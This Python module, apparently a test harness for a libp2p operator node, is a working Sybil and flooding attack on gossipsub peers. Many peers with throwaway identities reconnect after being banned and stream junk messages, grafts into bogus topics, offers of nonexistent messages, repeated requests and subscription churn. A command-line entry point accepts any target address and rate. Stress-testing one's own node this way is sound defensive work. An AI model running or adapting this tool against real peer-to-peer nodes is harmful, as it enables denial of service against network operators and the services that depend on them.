"""An attacker: many peers that send rejected messages and abuse gossip's own, and come back.

They begin together, when all are connected. Each has an identity of its own, and a new one whenever
it was shown out; on loopback each has an address of its own, too. It writes to its streams what a
node never would: junk in place of messages, requests into meshes that it has to stay out of, offers
of messages that do not exist, requests for the same messages again and again, subscriptions back
and forth. Every other one sends no junk, which would give it away at once, and lives by abuse.

As a program: `python -m tests.p2p.sybils --target MULTIADDR --rate 2000 --peers 20 --seconds 30`
prints one line of JSON at the end.
"""

from __future__ import annotations

import argparse
import json
import os
from collections import deque
from collections.abc import Sequence
from dataclasses import asdict, dataclass, field
from functools import partial

import trio
from libp2p.abc import INetStream, IRawConnection
from libp2p.custom_types import TProtocol
from libp2p.exceptions import BaseLibp2pError
from libp2p.host.basic_host import BasicHost
from libp2p.network.swarm import Swarm
from libp2p.peer.id import ID
from libp2p.peer.peerinfo import PeerInfo
from libp2p.pubsub.pb import rpc_pb2
from libp2p.transport.tcp.tcp import TCP
from multiaddr import Multiaddr  # type: ignore[import-untyped]

from operator_node.p2p import Identity
from operator_node.p2p.places import Place, place_of
from operator_node.p2p.upstream.framing import FrameReader, framed
from operator_node.p2p.upstream.host import new_host
from operator_node.p2p.upstream.peer_streams import PACKET_BYTES
from operator_node.wire.gossip import gossip_id
from sdk.errors import PeerError

MESHSUB = TProtocol("/meshsub/1.1.0")
TICK_SECONDS = 0.1
JUNK_BYTES = 600
CONNECT_SECONDS = 20.0
GATHER_SECONDS = 120.0
"""For all to be connected; a machine with two cores takes a few seconds."""
WRITE_SECONDS = 5.0
AGAIN_SECONDS = 0.2
"""After a connection that was refused."""
GRAFTS, OFFERS, WANTS = 300, 6000, 50
"""In each tick, of each peer."""
TOPIC = "ssv.v2.7"


@dataclass(slots=True)
class Told:
    """What the attacker did, and how it fared.

    Attributes:
        sent: junk messages.
        connected: connections that stood.
        shown_out: those of them that the target ended.
        refused: connections that it did not let come about.
        got: messages that the target sent to sybils.
        got_bytes: of these.
    """

    sent: int = 0
    connected: int = 0
    shown_out: int = 0
    refused: int = 0
    got: int = 0
    got_bytes: int = 0


class Gathering:
    """Where sybils wait for each other."""

    def __init__(self, count: int) -> None:
        self._missing = set(range(count))
        self.all_there = trio.Event()

    async def arrive(self, number: int) -> None:
        """Waits for the others, the first time."""
        self._missing.discard(number)
        if not self._missing:
            self.all_there.set()
        await self.all_there.wait()


@dataclass(slots=True)
class Sybil:
    """One of them, in whatever identity."""

    number: int
    topic: str
    told: Told
    known: deque[bytes] = field(default_factory=lambda: deque(maxlen=64))

    async def live(
        self, target: Place, rate: float, source: str | None, gathering: Gathering
    ) -> None:
        """Attacks with the others, until cancelled."""
        while True:
            host = new_host(Identity.of(os.urandom(32)).key)
            host.set_stream_handler(MESHSUB, self._listen)
            if source is not None:
                _dial_from(host, source)
            async with host.run([]):
                stream = await _connected(host, target)
                if stream is None:
                    self.told.refused += 1
                else:
                    self.told.connected += 1
                    await gathering.arrive(self.number)
                    await self._attack(stream, rate)
                    self.told.shown_out += 1
            await trio.sleep(AGAIN_SECONDS)

    async def _attack(self, stream: INetStream, rate: float) -> None:
        """Writes until the stream breaks."""
        due = trio.current_time()
        owed = 0.0
        try:
            while True:
                owed += rate * TICK_SECONDS
                count = int(owed)
                owed -= count
                with trio.fail_after(WRITE_SECONDS):
                    await stream.write(framed(self._packet(count).SerializeToString()))
                self.told.sent += count
                due += TICK_SECONDS
                await trio.sleep_until(due)
        except (BaseLibp2pError, trio.TooSlowError):
            return

    def _packet(self, count: int) -> rpc_pb2.RPC:
        """Junk and abuse of one tick."""
        packet = rpc_pb2.RPC()
        for subscribe in (False, True):
            packet.subscriptions.add(subscribe=subscribe, topicid=self.topic)
        for _ in range(count):
            packet.publish.add(topicIDs=[self.topic], data=b"r" + os.urandom(JUNK_BYTES))
        for number in range(GRAFTS):
            topic = self.topic if number % 2 else f"ssv.v2.made-up.{os.urandom(4).hex()}"
            packet.control.graft.add(topicID=topic)
        packet.control.ihave.add(
            topicID=self.topic, messageIDs=[os.urandom(12) for _ in range(OFFERS)]
        )
        for _ in range(WANTS):
            packet.control.iwant.add(messageIDs=list(self.known))
        return packet

    async def _listen(self, stream: INetStream) -> None:
        """Learns which messages there are to ask for."""
        frames = FrameReader(stream, limit_bytes=PACKET_BYTES)
        try:
            while (frame := await frames.read()) is not None:
                for message in rpc_pb2.RPC.FromString(frame).publish:
                    self.told.got += 1
                    self.told.got_bytes += len(message.data)
                    self.known.append(gossip_id(message.data))
        except (BaseLibp2pError, PeerError):
            return


async def attack(
    target: str, *, rate: float, peers: int, seconds: float, topic: str = TOPIC
) -> Told:
    """Attacks a node for a while.

    Args:
        target: multiaddress with peer id.
        rate: junk messages per second, of all peers together.
        peers: at the same time.
        seconds: how long.
        topic: on which.
    """
    told, place, gathering = Told(), place_of(target), Gathering(peers)
    async with trio.open_nursery() as nursery:
        for number, source in enumerate(_sources(place, peers)):
            sybil = Sybil(number, topic, told)
            own_rate = 0.0 if number % 2 else rate / ((peers + 1) // 2)
            nursery.start_soon(sybil.live, place, own_rate, source, gathering)
        with trio.move_on_after(GATHER_SECONDS):
            await gathering.all_there.wait()
        gathering.all_there.set()
        await trio.sleep(seconds)
        nursery.cancel_scope.cancel()
    return told


def _sources(target: Place, peers: int) -> Sequence[str | None]:
    """Addresses of their own, where a machine has as many as one likes."""
    if not target.addresses[0].startswith("/ip4/127."):
        return [None] * peers
    return [f"127.0.1.{number + 1}" for number in range(peers)]


def _dial_from(host: BasicHost, source: str) -> None:
    """Makes a host dial from an address of this machine."""

    class FromSource(TCP):
        async def dial(self, maddr: Multiaddr) -> IRawConnection:
            return await self.dial_with_source(maddr, (source, 0))

    network = host.get_network()
    assert isinstance(network, Swarm)
    network.transport_manager._transports[:] = [FromSource()]


async def _connected(host: BasicHost, target: Place) -> INetStream | None:
    """A stream for gossip, None if the target does not want one."""
    peer = ID.from_base58(target.peer)
    with trio.move_on_after(CONNECT_SECONDS):
        try:
            await host.connect(PeerInfo(peer, [Multiaddr(each) for each in target.addresses]))
            return await host.new_stream(peer, [MESHSUB])
        except (BaseLibp2pError, OSError):
            return None
    return None


def main() -> None:
    parser = argparse.ArgumentParser(description="Attacks a node by many peers.")
    parser.add_argument("--target", required=True, help="multiaddress with peer id")
    parser.add_argument("--rate", type=float, default=2000, help="junk messages per second")
    parser.add_argument("--peers", type=int, default=20)
    parser.add_argument("--seconds", type=float, default=30)
    parser.add_argument("--topic", default=TOPIC)
    given = parser.parse_args()
    run = partial(
        attack,
        given.target,
        rate=given.rate,
        peers=given.peers,
        seconds=given.seconds,
        topic=given.topic,
    )
    print(json.dumps(asdict(trio.run(run))))


if __name__ == "__main__":
    main()
